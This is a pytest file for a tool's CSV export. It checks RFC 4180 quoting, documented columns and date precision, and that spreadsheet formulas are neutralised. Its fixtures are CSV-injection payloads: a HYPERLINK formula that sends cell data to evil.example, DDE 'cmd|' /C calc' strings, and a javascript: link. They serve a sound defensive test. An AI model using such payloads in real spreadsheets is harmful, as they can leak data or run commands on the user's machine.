"""`export --format csv` (issue 28): tables a spreadsheet opens, read back with Python's csv module.

RFC 4180 (header, CRLF, quoting), the columns docs/export-csv.md lists, values
that agree with the model, and cells a spreadsheet would run as formulas made inert.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from briefing import cli
from briefing.format.loader import load
from briefing.model import Briefing
from briefing.render import CSV_TABLES, export
from briefing.render.csv_export import COLUMNS, neutralise

REPO = Path(__file__).resolve().parents[2]
FORMULA_TITLES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
)

FORMULAS_YAML = """
briefing: 1
id: formulas
title: "=1+1 in the title"
as_of: "2024-12-07"
sources:
  - id: s
    title: "@source"
    publisher: "+Publisher"
    text: "He said =SUM(A1:A9) and -5. Then a second line, with a comma."
actors:
  - {id: a, name: "=cmd|' /C calc'!A0", kind: person, aliases: ["-alias", "plain"], role: "@role"}
places:
  - {id: p, name: "+Place", lat: -33.9, lon: -18.41}
events:
"""


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _formulas(tmp_path: Path) -> Briefing:
    events = "".join(
        f'  - id: e{n}\n    date: "2024-12-0{n + 1}"\n    title: {title!r}\n'
        f'    actors: [a]\n    places: [p]\n    detail: "-detail {n}"\n'
        '    evidence: [{source: s, quote: "=SUM(A1:A9)"}]\n'
        for n, title in enumerate(FORMULA_TITLES)
    )
    path = tmp_path / "formulas.yaml"
    path.write_text(FORMULAS_YAML + events, encoding="utf-8")
    return load(path)


@pytest.mark.parametrize("table", CSV_TABLES)
def test_every_table_reads_back_with_its_header_and_one_row_per_record(each_briefing, table):
    text = export(each_briefing, "csv", table)
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    assert tuple(header) == COLUMNS[table]
    rows = list(reader)
    expected = {
        "events": len(each_briefing.events),
        "actors": len(each_briefing.actors),
        "places": len(each_briefing.places),
        "reactions": len(each_briefing.reactions),
        "statements": sum(len(r.statements) for r in each_briefing.reactions),
    }[table]
    assert len(rows) == expected and all(len(row) == len(header) for row in rows)


def test_records_end_with_crlf_and_quoted_fields_keep_commas_quotes_and_line_breaks(each_briefing):
    text = export(each_briefing, "csv")
    assert text.endswith("\r\n") and text.count("\r\n") >= len(each_briefing.events) + 1
    rows = _rows(text)
    by_id = {event.id: event for event in each_briefing.events}
    for row in rows:
        event = by_id[row["id"]]
        assert row["title"] == event.title  # no formula in these titles: exactly the text
        assert row["detail"] == (event.detail or "")


def test_event_rows_follow_the_timeline_and_agree_with_the_model(each_briefing):
    rows = _rows(export(each_briefing, "csv"))
    assert [row["id"] for row in rows] == [event.id for event in each_briefing.events]
    for row, event in zip(rows, each_briefing.events, strict=True):
        assert row["date"] == event.date.text and row["date_display"] == event.date.display
        assert (row["earliest"], row["latest"]) == (
            event.date.earliest.isoformat(),
            event.date.latest.isoformat(),
        )
        first = event.evidence[0]
        source = each_briefing.source(first.source).text
        assert row["quote"] == first.quote
        # The offsets index the source text, so a reader can find the quote there.
        assert source[int(row["quote_start"]) : int(row["quote_end"])] == source[first.start : first.end]


def test_every_date_form_gets_its_precision_and_marks():
    """Checked by hand against tests/data/valid/harbour-strike.yaml."""
    rows = {
        row["id"]: row for row in _rows(export(load(REPO / "tests/data/valid/harbour-strike.yaml"), "csv"))
    }
    expected = {  # id: (precision, approximate, uncertain)
        "agreement-expires": ("year", "false", "false"),  # "2023"
        "wage-talks": ("month", "true", "false"),  # "2024-02/2024-03-04~": the coarser end, "~" on one end
        "fuel-deliveries": ("month", "false", "false"),  # "2024-03"
        "ships-diverted": ("day", "false", "false"),  # "2024-03-02/2024-03-07"
        "minister-press-conference": ("minute", "false", "false"),  # "2024-03-05T14:00Z"
        "fuel-tanker": ("day", "false", "true"),  # "2024-03-06?"
        "website-defaced": ("day", "true", "false"),  # "2024-03-07~"
    }
    for event_id, (precision, approximate, uncertain) in expected.items():
        row = rows[event_id]
        assert (row["precision"], row["approximate"], row["uncertain"]) == (precision, approximate, uncertain)
    assert rows["wage-talks"]["earliest"] == "2024-02-01" and rows["wage-talks"]["latest"] == "2024-03-04"
    assert rows["fuel-deliveries"]["latest"] == "2024-03-31"
    # Ships went from Kessrin to Rotterdam: the coordinates are the first place's.
    ships = rows["ships-diverted"]
    assert (ships["places"], ships["place_ids"]) == ("Kessrin; Rotterdam", "kessrin; rotterdam")
    assert (ships["lat"], ships["lon"]) == ("46.82", "-18.41")
    vote = rows["strike-vote"]  # no place: empty cells, not zeros
    assert (vote["places"], vote["lat"], vote["lon"]) == ("", "", "")


def test_formula_titles_are_neutralised_with_a_leading_apostrophe(tmp_path):
    briefing = _formulas(tmp_path)
    rows = _rows(export(briefing, "csv"))
    assert [row["title"] for row in rows] == ["'" + title for title in FORMULA_TITLES]
    for row in rows:
        assert row["detail"].startswith("'-detail")
        assert row["actors"] == "'=cmd|' /C calc'!A0" and row["places"] == "'+Place"
        assert row["sources"] == "'+Publisher" and row["quote"] == "'=SUM(A1:A9)"
        assert (row["lat"], row["lon"]) == ("-33.9", "-18.41")  # numbers stay numbers


@pytest.mark.parametrize("table", CSV_TABLES)
def test_no_text_cell_of_any_table_starts_a_formula(tmp_path, table):
    numbers = {"lat", "lon"}  # written by the exporter from numbers: "-18.41" is a number
    for row in _rows(export(_formulas(tmp_path), "csv", table)):
        for column, value in row.items():
            if column not in numbers:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)


def test_tab_and_carriage_return_starts_are_neutralised_too():
    assert neutralise("\tcmd") == "'\tcmd" and neutralise("\r=1") == "'\r=1"
    assert neutralise("plain -1") == "plain -1" and neutralise("'quoted") == "'quoted"


def test_the_hostile_briefing_stays_text(hostile):
    rows = _rows(export(hostile, "csv", "reactions"))
    assert rows[0]["headline"] == "'- ](javascript:alert(1)) | headline"


def _documented_columns() -> dict[str, list[str]]:
    """The `column` names of each "### table" section of docs/export-csv.md, in order."""
    text = (REPO / "docs" / "export-csv.md").read_text(encoding="utf-8")
    sections = re.split(r"^### ", text, flags=re.MULTILINE)[1:]
    documented = {}
    for section in sections:
        name = section.split()[0].strip("`")
        documented[name] = re.findall(r"^\| `([a-z_]+)` \|", section, flags=re.MULTILINE)
    return documented


def test_docs_list_every_column_of_every_table_in_order():
    assert _documented_columns() == {table: list(columns) for table, columns in COLUMNS.items()}


def test_csv_from_the_command_line(sample_path, tmp_path, capsys):
    target = tmp_path / "statements.csv"
    command = ["export", str(sample_path), "--format", "csv", "--table", "statements", "-o", str(target)]
    assert cli.main(command) == 0
    assert target.read_bytes().decode("utf-8") == export(load(sample_path), "csv", "statements")
    assert cli.main(["export", str(sample_path), "--format", "csv"]) == 0
    assert capsys.readouterr().out.startswith("id,date,date_display,")


def test_table_without_csv_is_a_usage_error(sample_path, capsys):
    assert cli.main(["export", str(sample_path), "--format", "json", "--table", "actors"]) == 2
    assert "--table goes with --format csv only" in capsys.readouterr().err
